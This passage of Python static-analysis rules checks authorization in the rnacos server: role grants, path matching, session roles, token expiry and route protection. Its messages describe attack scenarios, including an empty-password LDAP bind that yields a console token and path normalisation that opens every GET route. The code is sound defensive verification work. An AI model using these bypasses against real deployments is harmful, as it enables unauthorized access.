            ok = bool(metas) and all(any(ro.op_tainted(a) for a in s0.args) for s0 in metas)
            ck.require(ok, 'R17h', 'stored-roles-used:%s' % who, (metas[0].where() if metas else b.where()),
                       '%s gives every session the configured default role: bob is stored as VISITOR (roles=2), logs in again through OAuth2 and his '
                       'fresh session adds a configuration' % who, 'roles derive from the stored record')
    n = 0
    for b in fb.bodies.values():
        for s0 in b.calls(r'simple_bind$'):
            n += 1
            ck.analysed(b)
            ok = False
            for a in cfg.guard_atoms(b, s0.bb):
                if a[0] == 'call' and re.search(r'::is_empty$', a[1] or '') and a[2] is False:
                    t = a[3]
                    if t.get('args') and cfg.origin_fields(b, t['args'][0])[-1:] == ['password']:
                        ok = True
            ck.require(ok, 'R17i', 'bind-needs-password:%s' % b.name.split('rnacos::')[-1].replace('::{closure#0}', ''), s0.where(),
                       'simple_bind is sent with whatever password the form carried: username=alice&password= (and any user name that does not exist) '
                       'returns a console token when the directory permits unauthenticated binds', 'password tested non-empty before the bind')
    ck.floor('R17i', 'LDAP bind sites', n, 1)


def r17j(ck, fb, R='R17j'):
    ck.rule(R, 'a grant is exact: PathResource::match_url(path, method) == (entry is for all methods || entry.method == method) && (entry is for all '
               'paths || entry.path == path, the empty path standing for "/"), decided as a truth table of the compiled function over its string '
               'comparisons (every other string operation - prefix, suffix, contains, case folding - is outside the table and fails closed). '
               'The role tables (R17b-R17d) are evaluated under exactly this reading; with prefix matching the base grant ("/rnacos", GET) of every '
               'role would open every GET route below /rnacos/ to visitors')
    from rn.absint import Ref, SymObj, BV, Opaque
    from rn.tables import check_table
    PRN = 'rnacos::user::permission::PathResource::'
    b = ck.body(PRN + 'match_url', R)
    am = ck.body(PRN + 'is_match_all_method', R)
    ap = ck.body(PRN + 'is_match_all_path', R)
    if not (b and am and ap):
        return

    def nm(i, v):
        for _ in range(8):
            if not isinstance(v, Ref):
                break
            v = v.obj if v.obj is not None else i.read_place(v.frame, v.place)
        if isinstance(v, SymObj):
            return v.name
        if isinstance(v, Opaque) and isinstance(v.what, tuple) and v.what[0] == 'str':
            return 'lit:' + str(v.what[1])
        return repr(v)

    def m_eq(i, fr, t, args):
        return BV.const(1, int(i.env.atom('EQ[%s]' % ','.join(sorted(nm(i, a) for a in args[:2])), 'bool')))

    def m_ne(i, fr, t, args):
        return BV.const(1, 1 - int(i.env.atom('EQ[%s]' % ','.join(sorted(nm(i, a) for a in args[:2])), 'bool')))

    def m_empty(i, fr, t, args):
        return BV.const(1, int(i.env.atom('EMPTY[%s]' % nm(i, args[0]), 'bool')))
    models = {
        'std::cmp::PartialEq::eq': m_eq, 'std::cmp::PartialEq::ne': m_ne,
        'std::cmp::impls::<impl std::cmp::PartialEq<&B> for &A>::eq': m_eq, 'std::cmp::impls::<impl std::cmp::PartialEq<&B> for &A>::ne': m_ne,
        'core::str::traits::<impl std::cmp::PartialEq for str>::eq': m_eq,
        'core::str::<impl str>::is_empty': m_empty,
        am.name: lambda i, fr, t, args: BV.const(1, int(i.env.atom('ALLM', 'bool'))),
        ap.name: lambda i, fr, t, args: BV.const(1, int(i.env.atom('ALLP', 'bool'))),
    }

    def oracle(a):
        meth = a['ALLM'] or a.get('EQ[method,self.method]', False)
        if a.get('EMPTY[path]', False):
            p = a.get('EQ[lit:/,self.path]', False)
        else:
            p = a.get('EQ[path,self.path]', False)
        return bool(meth and (a['ALLP'] or p))
    allat = {'ALLM': [False, True], 'ALLP': [False, True], 'EQ[method,self.method]': [False, True], 'EMPTY[path]': [False, True],
             'EQ[lit:/,self.path]': [False, True], 'EQ[path,self.path]': [False, True]}
    check_table(ck, fb, R, 'match_url', b, lambda: [Ref(obj=SymObj('self')), Ref(obj=SymObj('path')), Ref(obj=SymObj('method'))], oracle, all_atoms=allat, call_models=models)
    # the two "for all" tests compare with the empty string
    for (x, fld) in ((am, 'method'), (ap, 'path')):
        eqs = [s for s in x.sites if (s.callee or '').endswith('PartialEq::eq')]
        ok = len(eqs) == 1 and cfg.origin_fields(x, eqs[0].args[0])[-1:] == [fld] and 'const()' in cfg.fmt_desc(cfg.describe_operand(x, eqs[0].args[1]))
        ck.require(ok, R, '%s:empty-means-all' % x.name.split('::')[-1], x.where(), '%s is not "entry.%s is the empty string"' % (x.name.split('::')[-1], fld))


def r17l(ck, fb, R='R17l'):
    ck.rule(R, '"a logged-in user can only invoke the routes granted to one of THEIR roles": the roles a request is judged by are the roles the login '
               'that created the session established. UserSession values are built only by the login handlers of console::login_api (password, OAuth2 '
               'callback, LDAP), and nothing outside them assigns UserSession.roles afterwards. A per-request refresh that copies the roles of the user-table '
               'record named like the session gives an LDAP / OAuth2 session (whose roles come from the directory at login) the roles of whatever local '
               'record has that name - e.g. a manager record left from an earlier login, or the built-in admin. (A refresh that narrows roles for the users '
               'of the table itself would need the session to say where it came from; this rule reports any such write for triage.)')
    builders, writers = [], []
    for b in fb.bodies.values():
        if not b.name.startswith('rnacos::') or '::tests::' in b.name or '::seeded_demo' in b.name:
            continue
        if b.aggregates(r'common::model::UserSession$'):
            builders.append(b)
        for (o, f, bb, st) in b.field_writes():
            if f == 'roles' and o.endswith('common::model::UserSession'):
                writers.append((b, bb))
    ck.floor(R, 'functions that build a UserSession', len(builders), 3)
    for b in builders:
        ck.analysed(b)
        root = fb.root_of(b.name) if hasattr(fb, 'root_of') else b.name
        ck.require(b.name.startswith('rnacos::console::login_api::'), R, 'UserSession-built-by:%s' % b.name.split('::{')[0], b.where(),
                   'a UserSession is built outside the login handlers (%s): its roles are not the result of a login' % b.name, 'login handler')
    seen = set()
    for (b, bb) in writers:
        k = b.name.split('::{')[0]
        if k in seen:
            continue
        seen.add(k)
        ck.analysed(b)
        ck.require(b.name.startswith('rnacos::console::login_api::'), R, 'UserSession.roles-assigned-by:%s' % k, b.where(bb),
                   '%s assigns UserSession.roles after the login: the request is judged by roles the login did not grant (a session of a directory user whose '
                   'name equals a local record gets that record\'s roles)' % k, 'login handler')


def r17m(ck, fb, R='R17m'):
    ck.rule(R, 'the matcher sees the grants as they are written and the request as it was made: every PathResource put into a module / group table '
               'takes path and method unchanged from the Resource::Path literal (or from the entry it copies), and on the way UserRole::match_url -> '
               'GroupResource / ModuleResource::match_url -> PathResource::match_url the path and the method handed down are the caller\'s own. The role '
               'tables (R17b-R17d) are evaluated from the literals under R17j\'s reading of the matcher; a normalisation on either side changes what '
               'is granted without changing a table - trimming a trailing slash turns the page grant ("/", GET) of every role into ("", GET), and the '
               'empty path is the stands-for-every-path entry: every logged-in role may GET every route')
    P = 'rnacos::user::permission::'
    n = 0
    for nm in (P + 'ModuleResource::new', P + 'GroupResource::new'):
        b = ck.body(nm, R)
        if not b:
            continue
        for x in util.region(fb, b, 2):
            for (i, j, st) in x.aggregates(r'permission::PathResource$'):
                rv = st['rv']
                for f in ('path', 'method'):
                    if f not in rv.get('fields', []):
                        continue
                    n += 1
                    d = cfg.strip_calls(x, cfg.describe_operand(x, rv['ops'][rv['fields'].index(f)]))
                    ok = d['k'] in ('place', 'arg') and not (d['k'] == 'place' and d['root']['k'] == 'call' and
                                                             cfg.strip_calls(x, d['root'])['k'] == 'call' and
                                                             not re.search(r'Iterator>::next$|IntoIterator>::into_iter$', cfg.callee_name(cfg.strip_calls(x, d['root'])['term']) or ''))
                    ck.require(ok, R, '%s:%s-as-written' % (nm.split('::')[-2], f), x.where(i),
                               '%s stores a PathResource whose %s is computed (%s) instead of copied from the table literal: the grants the matcher '
                               'works with are not the grants the tables state' % (nm.split('permission::')[-1], f, cfg.fmt_desc(d)), 'copied')
    ck.floor(R, 'PathResource fields stored by the table builders', n, 4)
    chain = [(P + 'UserRole::match_url', r'permission::(GroupResource|ModuleResource|PathResource)::match_url$'),
             (P + 'GroupResource::match_url', r'permission::PathResource::match_url$'),
             (P + 'ModuleResource::match_url', r'permission::PathResource::match_url$'),
             (P + 'UserRole::match_url_by_roles', r'permission::UserRole::match_url$')]
    m = 0
    for (nm, pat) in chain:
        b = ck.body(nm, R)
        if not b:
            continue
        names = {b.local_name(l): l for l in range(1, b.argc + 1)}
        for s0 in [s1 for x in util.region(fb, b, 1) for s1 in x.calls(pat)]:
            x = s0.body
            for (k, want) in ((1, 'path'), (2, 'method')):
                m += 1
                d = cfg.strip_calls(x, cfg.describe_operand(x, s0.args[k]))
                ok = d['k'] == 'arg' and x.local_name(d['l']) == want or (x is not b and d['k'] in ('arg', 'place'))
                ck.require(ok, R, '%s:hands-down-%s' % ('::'.join(nm.split('::')[-2:]), want), s0.where(),
                           '%s judges a %s it has computed (%s), not the one of the request: grants are matched against something the tables were not '
                           'written for' % ('::'.join(nm.split('::')[-2:]), want, cfg.fmt_desc(d)), 'the caller\'s own %s' % want)
    ck.floor(R, 'path / method arguments handed down the matcher chain', m, 8)


def r17n(ck, fb, R='R17n'):
    ck.rule(R, '"refused without a VALID session": a session (and an API token, a captcha) is a cache entry with a deadline, and the read that the '
               'login middleware goes through decides validity itself - DirectCacheManager::get_valid_value answers with the stored value only on '
               'paths that passed a comparison of the entry\'s `expire` with the clock saying "not yet" (or with -1 saying "never"). The periodic '
               'sweep is no substitute: it runs once a second and removes an entry only when expire < now at the tick that pops its key, so an '
               'entry whose deadline equals that second stays in the map for ever - without the check at read time an expired console session '
               'keeps every route its roles grant')
    from rn.facts import op_const
    b = ck.body('rnacos::cache::core::DirectCacheManager::get_valid_value', R)
    if not b:
        return
    tn = Taint(b, call_src=lambda t: re.search(r'now_second|now_millis|SystemTime::now', cfg.callee_name(t) or '') is not None)
    live = set()
    ncmp = 0
    for (s0, d0, lab0, t0) in cfg.switch_edges(b):
        d = cfg.describe_operand(b, t0['discr'])
        neg = False
        while d['k'] == 'un' and d['op'] == 'Not':
            neg = not neg
            d = cfg.describe_operand(b, d['a'])
        if d['k'] != 'bin' or d['op'] not in ('Lt', 'Le', 'Gt', 'Ge', 'Eq', 'Ne'):
            continue
        ea, eb = cfg.origin_fields(b, d['a'])[-1:] == ['expire'], cfg.origin_fields(b, d['b'])[-1:] == ['expire']
        if ea == eb:
            continue
        other = d['b'] if ea else d['a']
        op = d['op'] if ea else {'Lt': 'Gt', 'Le': 'Ge', 'Gt': 'Lt', 'Ge': 'Le'}.get(d['op'], d['op'])
        pol = cfg.edge_polarity(t0, lab0)
        if pol is None:
            continue
        if neg:
            pol = not pol
        holds = {'Lt': {'<'}, 'Le': {'<', '='}, 'Gt': {'>'}, 'Ge': {'>', '='}, 'Eq': {'='}, 'Ne': {'<', '>'}}[op]
        if not pol:
            holds = {'<', '=', '>'} - holds
        c = op_const(other)
        if tn.op_tainted(other):
            ncmp += 1
            if '<' not in holds:            # expire < now excluded: not expired
                live.add((s0, d0, lab0))
        elif c is not None and str(c.get('v')) == '-1':
            if '>' not in holds:            # expire <= -1: never expires
                live.add((s0, d0, lab0))
    # blocks that give the answer a value other than a literal None
    answers = []
    for (kind, bb, j, node) in b.defs.get(0, []):
        if kind == 'stmt' and node['rv']['k'] == 'agg' and node['rv'].get('variant') == 'None':
            continue
        answers.append(bb)
    ck.floor(R, 'places where get_valid_value answers with a value', len(answers), 1)
    free = cfg.reach_from(b, [0], blocked_edges=live)
    bad = [bb for bb in answers if bb in free]
    ck.require(not bad, R, 'get_valid_value:deadline-checked-at-read', b.where(bad[0]) if bad else b.where(),
               'get_valid_value can answer with the stored value on a path that has not compared the entry\'s deadline with the clock (%d such comparisons '
               'in the function): an entry the sweep did not remove - deadline on the second of the tick - is valid for ever; an expired console session, '
               'API token or captcha is accepted' % ncmp, 'every answer is behind "expire >= now" or "expire <= -1"')
