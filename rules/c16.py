"""C16 With auth on, no data endpoint (HTTP or gRPC) is served without a valid token."""
import re
from rn import cfg, util, routes, walk
from rn.flow import Taint, field_place_src
from rn.tables import check_table
from rn.absint import Ref, SymObj, BV, Opaque

AM = 'rnacos::openapi::middle::auth_middle::'
GH = 'rnacos::grpc::handler::'
ALLOWED_IGNORE = {'/nacos/v1/auth/login', '/nacos/v1/auth/users/login', '/nacos/v3/auth/user/login', '/rnacos/v1/auth/user/login',
                  '/nacos/metrics', '/nacos/v1/raft/close-write'}


def static_strs(fb, static_name):
    """string literals of a lazy_static Vec<&str> initialiser"""
    n = '<%s as std::ops::Deref>::deref::__static_ref_initialize' % static_name
    b = fb.get(n)
    out = []
    for (i, j, s) in b.stmts():
        rv = s.get('rv')
        if rv and rv['k'] == 'agg' and rv.get('ak') == 'array':
            for o in rv['ops']:
                d = cfg.describe_operand(b, o)
                if d['k'] == 'const' and 's' in d['c']:
                    out.append(d['c']['s'])
                else:
                    out.append(None)
    pushes = b.calls(r'Vec::<T, A>::push$')
    return b, out, pushes


def static_regex(fb, static_name):
    n = '<%s as std::ops::Deref>::deref::__static_ref_initialize' % static_name
    b = fb.get(n)
    cs = b.calls(r'regex::Regex::new$')
    if len(cs) != 1:
        return b, None
    d = cfg.strip_calls(b, cfg.describe_operand(b, cs[0].args[0]))
    return b, (d['c'].get('s') if d['k'] == 'const' else None)


def simple_regex_matches(rx, path):
    """matcher for the regex subset used by the repository: optional (?i), literals, '.*' ; unanchored search like Regex::is_match"""
    flags = 0
    if rx.startswith('(?i)'):
        flags = re.I
        rx = rx[4:]
    # subset on which Rust's regex crate and python's re agree for ASCII paths: literals, classes, groups, alternation, quantifiers, anchors
    if not re.fullmatch(r'(?:[A-Za-z0-9_/\-.?+*()|\[\]^${},:]|\\[.dwsDWS/\-\\?+*()|\[\]^${}])*', rx) or re.search(r'\(\?[^:]', rx):
        raise ValueError('regex %r is outside the supported subset' % rx)
    return re.search(rx, path, flags) is not None


def concrete_paths(pattern):
    """sample concrete paths of a route pattern: dynamic segments instantiated with a few probes"""
    if '{' not in pattern:
        return [pattern]
    outs = []
    for probe in ('x', 'a.js', 'a/b'):
        p = re.sub(r'\{[^{}]*\}', probe, pattern)
        outs.append(p)
    return outs


def run(ck, fb):
    ck.explanation = (
        'Exhaustive over the route table extracted from the registration code (every branch of app_config reachable with '
        'openapi_enable_auth = true), the literal tables of the middleware and the gRPC handler registry: (a) the API app wraps '
        'ApiCheckAuth; (b) every route under /nacos/ or /rnacos/v1/ is matched by API_PATH / R_NACOS_API_PATH and is in IGNORE_PATH only '
        'if the statement allows it; IGNORE_PATH entries are exact paths; (c) no data handler is also mounted outside the protected '
        'prefixes in an auth-on branch; (d) pass logic of the middleware: service.call is reachable only when !enable_auth, or the path is '
        'not checked, or get_user_session returned Ok(Some(session)) for a non-empty token; the token is taken header -> query -> body; '
        '(e) gRPC: ignore_auth is exactly {ServerCheck, HealthCheck} + cluster requests, no registered data handler type is in it, and '
        'handler.handle is reached only past both refusals (truth table of the guard).')
    ck.undecided = 'Does not decide actix\'s own path normalisation / matching, nor token expiry inside the cache actor.'
    rows = r16_routes(ck, fb)
    r16a(ck, fb)
    r16b(ck, fb, rows)
    r16d(ck, fb)
    r16f(ck, fb, rows)
    r16g(ck, fb)
    r16h(ck, fb)
    r16i(ck, fb)
    r16j(ck, fb)
    r16k(ck, fb)
    ck.borrow('rules.c17', {'R17n': 'R16l'}, 'an API token is a cache entry with a deadline: an expired token is no token only if the read checks the deadline itself')
    r16e(ck, fb)


def r16_routes(ck, fb):
    cl = fb.tree('rnacos::web_config::app_config')
    if len(cl) != 2:
        ck.bad('R16b', 'anchor:app_config-closure', '-', 'app_config no longer returns a single configure closure')
        return []
    try:
        rows = routes.routes_of(fb, cl[1])
    except routes.RouteError as e:
        ck.bad('R16b', 'route-dsl', cl[1].where(), 'route table cannot be extracted: %s' % e)
        return []
    ck.analysed(cl[1])
    ck.extra['route_rows'] = len(rows)
    return rows


def r16a(ck, fb):
    ck.rule('R16a', 'the App that is configured with app_config wraps ApiCheckAuth (bin target), and the console App wraps CheckLogin')
    found = {}
    for b in fb.bodies.values():
        if not b.name.startswith('rnacos_bin::'):
            continue
        cfgs = b.calls(r'actix_web::App::<T>::configure$')
        if not cfgs:
            continue
        wraps = [s.gargs for s in b.calls(r'actix_web::App::<T>::wrap$')]
        flat = ' '.join(' '.join(g) for g in wraps)
        for s in cfgs:
            ga = ' '.join(s.gargs)
            which = None
            d = cfg.describe_operand(b, s.args[1])
            if d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('web_config::app_config'):
                which = 'api'
            elif 'console_config' in ga or (d['k'] == 'const' and 'console_config' in str(d['c'])):
                which = 'console'
            if which:
                found[which] = (b, flat)
                ck.analysed(b)
    ck.require('api' in found and 'auth_middle::ApiCheckAuth' in found['api'][1], 'R16a', 'api-app-wraps-ApiCheckAuth', found['api'][0].where() if 'api' in found else '-',
               'the HTTP API App is configured with app_config but does not wrap ApiCheckAuth')
    ck.require('console' in found and 'login_middle::CheckLogin' in found['console'][1], 'R16a', 'console-app-wraps-CheckLogin', found['console'][0].where() if 'console' in found else '-',
               'the console App does not wrap CheckLogin')


def auth_on_possible(conds):
    return not any(name == 'openapi_enable_auth' and val is False for (name, val) in conds)


def r16b(ck, fb, rows):
    ck.rule('R16b', 'for every route row of every auth-on branch: a path under /nacos/ or /rnacos/v1/ is matched by API_PATH|R_NACOS_API_PATH '
                    'and listed in IGNORE_PATH only if the statement allows it; IGNORE_PATH holds exact literal paths from the allowed set')
    try:
        ib, ign, pushes = static_strs(fb, AM + 'IGNORE_PATH')
    except Exception as e:
        ck.bad('R16b', 'anchor:tables', '-', 'IGNORE_PATH table not found: %s' % e)
        return
    # the regex statics are those the middleware actually consults (discovered, not named)
    rxs = []
    ab = ib
    for o in fb.find(r'auth_middle::ApiCheckAuthMiddleware<S> as actix_web::dev::Service<actix_web::dev::ServiceRequest>>::call$'):
        for b2 in util.region(fb, o):
            for st in b2.calls(r'regex::Regex::is_match$'):
                nm = _static_name(b2, st.args[0])
                if nm:
                    try:
                        ab, rx = static_regex(fb, nm)
                        rxs.append(rx)
                    except Exception:
                        rxs.append(None)
    ck.analysed(ib, ab)
    ck.require(None not in ign and not pushes, 'R16b', 'IGNORE_PATH:literal', ib.where(), 'IGNORE_PATH is not a list of string literals (or is extended at run time)')
    ign = [x for x in ign if x]
    ck.floor('R16b', 'IGNORE_PATH entries', len(ign), 4)
    for p in ign:
        ck.require(p in ALLOWED_IGNORE, 'R16b', 'IGNORE_PATH:%s' % p, ib.where(),
                   'IGNORE_PATH exempts %s from authentication, which the property does not allow' % p, 'allowed')
        ck.require(not re.search(r'[{}*?\\]', p), 'R16b', 'IGNORE_PATH:exact:%s' % p, ib.where(), 'IGNORE_PATH entry %s is a pattern' % p)
    ck.require(bool(rxs) and None not in rxs, 'R16b', 'regex-literals', ab.where(), 'the path regexes consulted by the middleware are not regex literals (%s)' % rxs)
    if not rxs or None in rxs:
        return
    n = 0
    protected = []
    for r in rows:
        if not auth_on_possible(r.conds):
            continue
        for p in concrete_paths(r.path):
            under = p.lower().startswith('/nacos/') or p.lower().startswith('/rnacos/v1/')
            if not under:
                continue
            n += 1
            try:
                m = any(simple_regex_matches(rx, p) for rx in rxs)
            except ValueError as e:
                ck.bad('R16b', 'regex-subset', ab.where(), str(e))
                return
            key = '%s %s' % (r.method or '*', r.path)
            if p in ign:
                ck.require(p in ALLOWED_IGNORE, 'R16b', 'route-ignored:%s' % key, r.site.where(), 'route %s is served without a token' % key, 'allowed exemption')
            else:
                ck.require(m, 'R16b', 'route-checked:%s' % key, r.site.where(),
                           'route %s (handler %s) is under a protected prefix but none of the path regexes the middleware consults matches it: it is served without a token' % (key, r.handler))
                protected.append(r)
    ck.floor('R16b', 'protected route rows', n, 50)
    # the middleware uses exactly these tables
    ck.rule('R16c', 'handler aliasing: a handler mounted under a protected path is not also mounted under an unprotected path in an auth-on branch')
    prot_handlers = {}
    from .c01 import get_cg
    cg = get_cg(fb)
    SEND = re.compile(r'^actix::(Addr::<A>|Recipient::<M>)::(send|do_send|try_send)$')

    DATA_ACTORS = re.compile(r'config::core::ConfigActor|naming::core::NamingActor|namespace::NamespaceActor|raft::db::|mcp::core::McpManager|'
                             r'user::UserManager|cache::|sequence::|raft::|transfer::|naming::cluster')

    def is_data_handler(h):
        """reaches a send to a data-holding actor or the raft/route layer (static pages and the health probe do not)"""
        if h not in fb.bodies:
            return True
        for n in cg.reachable([h]):
            bb = fb.bodies.get(n)
            if bb is None:
                continue
            for s in bb.sites:
                if s.callee and SEND.match(s.callee) and DATA_ACTORS.search(' '.join(s.gargs)):
                    return True
                if s.callee and re.search(r'raft::cluster::route::|Raft::<.*>::client_write', s.callee):
                    return True
        return False
    for r in protected:
        prot_handlers.setdefault(r.handler, r)
    n_alias = 0
    for r in rows:
        if not auth_on_possible(r.conds):
            continue
        p0 = concrete_paths(r.path)[0].lower()
        under = p0.startswith('/nacos/') or p0.startswith('/rnacos/v1/')
        if not under and r.handler in prot_handlers:
            n_alias += 1
            ck.require(not is_data_handler(r.handler), 'R16c', 'alias:%s:%s' % (r.handler, r.path), r.site.where(),
                       'data handler %s is protected at %s but also reachable without a token at %s' % (r.handler, prot_handlers[r.handler].path, r.path),
                       'not a data handler')
    ck.ok('R16c', 'alias-scan', '', '%d protected handlers, %d aliases examined' % (len(prot_handlers), n_alias))


# ---------------------------------------------------------------------------------------------------------------------------
# whole-pipeline evaluation of the HTTP middleware per route (name-independent): the synchronous part of call() is walked with
# every switch decided from the tree's own tables (regex statics, literal lists, enable_auth = true); the bool values captured
# by the async block are then fed to a walk of the block under every "no valid token" assignment.

class PipeErr(Exception):
    pass


def _static_name(b, operand):
    d = cfg.strip_calls(b, cfg.describe_operand(b, operand))
    if d['k'] == 'const':
        m = re.search(r'&?(rnacos::[\w:]+)$', d['c'].get('ty', '') or '')
        if m:
            return m.group(1)
    return None



def session_providers(fb, blk):
    """helpers of the auth middleware through which the async block obtains the session: same-file functions the block calls whose bodies look
    the session up with get_user_session. [] when the block calls get_user_session itself."""
    out = []
    for s0 in blk.sites:
        t = util._local_target(blk, s0)
        if t is None or t.file != blk.file or t.name.endswith('::get_user_session'):
            continue
        if any(x.calls(r'auth_middle::get_user_session$') for x in util.region(fb, t, 2)):
            if t.name not in [q.name for q in out]:
                out.append(t)
    return out


def session_lookups(fb, blk):
    """[(body, site)] of every get_user_session call the async block can reach (itself and its session providers)"""
    out = [(blk, s0) for s0 in blk.calls(r'auth_middle::get_user_session$')]
    for t in session_providers(fb, blk):
        for x in util.region(fb, t, 2):
            out += [(x, s0) for s0 in x.calls(r'auth_middle::get_user_session$')]
    return out


def is_session_discr(fb, blk, d):
    """'session_result' / 'session_option' if the discriminant tested is the outcome of the session lookup (direct or through a provider)"""
    if d.get('k') != 'discr':
        return None
    txt = cfg.fmt_desc(cfg.describe_operand(blk, {'cp': d['pl']}))
    names = ['get_user_session'] + [t.name.split('::')[-1] for t in session_providers(fb, blk)]
    if not any(n in txt for n in names):
        return None
    if d.get('adt') == 'std::result::Result':
        return 'session_result'
    if d.get('adt') == 'std::option::Option':
        return 'session_option'
    return None


class OuterEval:
    def __init__(self, fb, body, path, path_sources):
        self.fb, self.b, self.path = fb, body, path
        self.path_sources = path_sources
        self.cache = {}
        self.consulted = set()
        # named sub-conditions (`let is_api_path = A.is_match(p) || B.is_match(p);`) are bool locals with several definitions: their value is
        # resolved from the definitions that are feasible, and the walk is repeated until nothing changes
        self.flagvals = {}
        self.reach = set(range(len(body.blocks)))
        for _ in range(5):
            self.reach = walk.reach_under(body, self.decide)
            new = {}
            for (s0, d0, lab0, t0) in cfg.switch_edges(body):
                if s0 not in self.reach:
                    continue
                d = cfg.describe_operand(body, t0['discr'])
                while d['k'] == 'un' and d['op'] == 'Not':
                    d = cfg.describe_operand(body, d['a'])
                if d['k'] == 'multi':
                    v = self.value({'cp': d['l']})
                    if v is not None:
                        new[d['l']] = v
            if new == self.flagvals:
                break
            self.flagvals = new

    def call_value(self, term):
        name = cfg.callee_name(term) or ''
        args = term.get('args') or []
        if name.endswith('regex::Regex::is_match') or name.endswith('Regex::is_match'):
            st = _static_name(self.b, args[0])
            if not st:
                raise PipeErr('is_match on something that is not a lazy_static regex')
            self.consulted.add(st)
            _, rx = static_regex(self.fb, st)
            if rx is None:
                raise PipeErr('%s is not a regex literal' % st)
            self.arg_is_path(args[1])
            return simple_regex_matches(rx, self.path)
        if name.endswith('::contains'):
            st = _static_name(self.b, args[0])
            if not st:
                raise PipeErr('contains() on something that is not a lazy_static list')
            self.consulted.add(st)
            _, lst, pushes = static_strs(self.fb, st)
            if None in lst or pushes:
                raise PipeErr('%s is not a list of string literals' % st)
            self.arg_is_path(args[1])
            return self.path in lst
        return None

    def arg_is_path(self, operand):
        d = cfg.describe_operand(self.b, operand)
        while d['k'] == 'ref':
            d = cfg.describe_operand(self.b, {'cp': d['pl']}) if 'pl' in d else d
            break
        txt = cfg.fmt_desc(cfg.describe_operand(self.b, operand))
        src = [x for x in self.path_sources if x in txt]
        if not src:
            raise PipeErr('a path table is consulted with %s, not with the request path' % txt[:80])

    def decide(self, bb, term):
        d = cfg.describe_operand(self.b, term['discr'])
        neg = False
        while d['k'] == 'un' and d['op'] == 'Not':
            neg = not neg
            d = cfg.describe_operand(self.b, d['a'])
        v = None
        if d['k'] == 'place' and d['fields'][-1:] == ['openapi_enable_auth']:
            v = True
        elif d['k'] == 'call':
            v = self.call_value(d['term'])
        elif d['k'] == 'multi':
            v = self.flagvals.get(d.get('l'))
        if v is None:
            return None
        return walk.bool_labels(term, (not v) if neg else v)

    def value(self, operand, depth=0):
        """bool value of an operand at the end of the walk, or None"""
        if depth > 8:
            return None
        if 'c' in operand:
            v = operand['c'].get('v')
            return v in (True, 'true', 1)
        from rn.facts import op_place, pl_local, pl_proj
        p = op_place(operand)
        if p is None:
            return None
        if pl_proj(p):
            f = cfg.origin_fields(self.b, operand)
            return True if f[-1:] == ['openapi_enable_auth'] else None
        l = pl_local(p)
        defs = [d for d in self.b.defs.get(l, []) if d[1] in self.reach]
        if len(defs) != 1:
            d1 = walk._latest_def(self.b, defs) if defs else None
            if d1 is None:
                return None
            defs = [d1]
        kind, bb, j, node = defs[0]
        if kind == 'call':
            return self.call_value(node)
        rv = node['rv']
        if rv['k'] == 'use':
            return self.value(rv['op'], depth + 1)
        if rv['k'] == 'un' and rv['op'] == 'Not':
            v = self.value(rv['a'], depth + 1)
            return None if v is None else (not v)
        return None


def r16f(ck, fb, rows):
    ck.rule('R16f', 'per route, end to end: with enable_auth = true the synchronous part of ApiCheckAuthMiddleware::call is evaluated on the route '
                    'path against the tree\'s own regex / literal tables, the captured flags are fed to the async block, and under every '
                    '"no valid token" assignment (empty token; non-empty token with session lookup Err / Ok(None)) service.call must be '
                    'unreachable unless the path is an allowed exemption; with a valid session it must be reachable')
    outer = [b for b in fb.find(r'auth_middle::ApiCheckAuthMiddleware<S> as actix_web::dev::Service<actix_web::dev::ServiceRequest>>::call$')]
    if not outer:
        ck.bad('R16f', 'anchor:call', '-', 'ApiCheckAuthMiddleware::call not found')
        return
    o = outer[0]
    inner = [b for b in fb.tree(o.name)[1:] if b.calls(r'Service<.*>::call$|dev::Service<Req>::call$')]
    aggs = [(i, j, st) for (i, j, st) in o.stmts() if st.get('rv') and st['rv']['k'] == 'agg' and st['rv'].get('ak') in ('coroutine', 'closure')
            and inner and st['rv'].get('def') == inner[0].name]
    if not inner or len(aggs) != 1:
        ck.bad('R16f', 'anchor:async-block', o.where(), 'the async block calling service.call (and its construction in call()) was not found')
        return
    b = inner[0]
    ck.analysed(o, b)
    ops = aggs[0][2]['rv']['ops']
    sc = b.calls(r'Service<.*>::call$|dev::Service<Req>::call$')
    from rn.facts import op_place, pl_local
    bool_idx = []
    for i, op in enumerate(ops):
        pl = op_place(op)
        if pl is not None and o.local_ty(pl_local(pl)) == 'bool':
            bool_idx.append(i)
    ck.floor('R16f', 'bool flags captured by the async block', len(bool_idx), 2)

    def classify_for(vals):
        def classify(d, term):
            if d['k'] == 'place' and d['root'].get('k') == 'arg' and d['root'].get('l') == 1 and d['fields'] and str(d['fields'][0]).isdigit() \
                    and int(d['fields'][0]) in vals:
                return ('bool', ('uv', int(d['fields'][0])))
            if d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('String::is_empty'):
                return ('bool', 'token_empty')
            sd = is_session_discr(fb, b, d)
            if sd:
                return ('variant', sd)
            return None
        return classify

    def call_name(t):
        # a named sub-condition that copies a captured flag (`let need_auth = enable_auth && is_check_path;`)
        if 'place' in t:
            from rn.facts import pl_fields
            fs0 = pl_fields(t['place'])
            if pl_local(t['place']) == 1 and fs0 and str(fs0[0]).isdigit():
                return ('uv', int(fs0[0]))
            return None
        if (cfg.callee_name(t) or '').endswith('String::is_empty'):
            return 'token_empty'
        return None
    n = 0
    consulted = set()
    for r in rows:
        if not auth_on_possible(r.conds):
            continue
        for p in concrete_paths(r.path):
            under = p.lower().startswith('/nacos/') or p.lower().startswith('/rnacos/v1/')
            if not under:
                continue
            key = '%s %s' % (r.method or '*', r.path)
            try:
                ev = OuterEval(fb, o, p, ('ServiceRequest::path', 'ServiceRequest::match_info', 'Path::<T>::as_str', 'Url::path'))
                vals = {}
                for i in bool_idx:
                    v = ev.value(ops[i])
                    if v is not None:
                        vals[i] = v
                consulted |= ev.consulted
            except (PipeErr, ValueError, KeyError) as e:
                ck.bad('R16f', 'pipeline:%s' % key, o.where(), 'cannot evaluate the middleware on %s: %s' % (p, e))
                return
            n += 1
            leaks = []
            # with a session provider "empty token" and "failed lookup" are both folded into its None
            no_token = ((True, 'Ok', 'None'), (False, 'Ok', 'None')) if session_providers(fb, b) else \
                ((True, 'Ok', 'Some'), (True, 'Err', 'None'), (False, 'Err', 'None'), (False, 'Ok', 'None'))
            for (te, sr, so) in no_token:
                env = {('uv', i): v for i, v in vals.items()}
                env.update({'token_empty': te, 'session_result': sr, 'session_option': so})
                reach, flags = walk.table_walk(b, classify_for(vals), env, call_name)
